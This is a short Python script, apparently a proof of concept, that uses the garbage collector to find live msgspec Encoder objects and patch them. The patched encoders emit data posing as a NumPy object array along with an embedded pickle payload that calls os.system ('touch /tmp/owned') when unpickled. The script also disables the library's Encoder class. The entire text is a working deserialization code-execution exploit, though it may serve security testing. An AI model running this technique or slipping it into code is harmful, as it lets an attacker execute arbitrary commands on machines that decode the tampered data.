import gc

import msgspec

for thing in gc.get_objects():
    if type(thing).__name__ == "Encoder" and hasattr(thing, "_plain"):
        # An array of objects: NumPy would unpickle it.
        thing._plain = lambda value, self=thing: [value[0], "ok", self._ext(1, ["|O", [1], 0])]
        thing._buffers.append(b"cos\nsystem\n(S'touch /tmp/owned'\ntR.")
msgspec.msgpack.Encoder = None
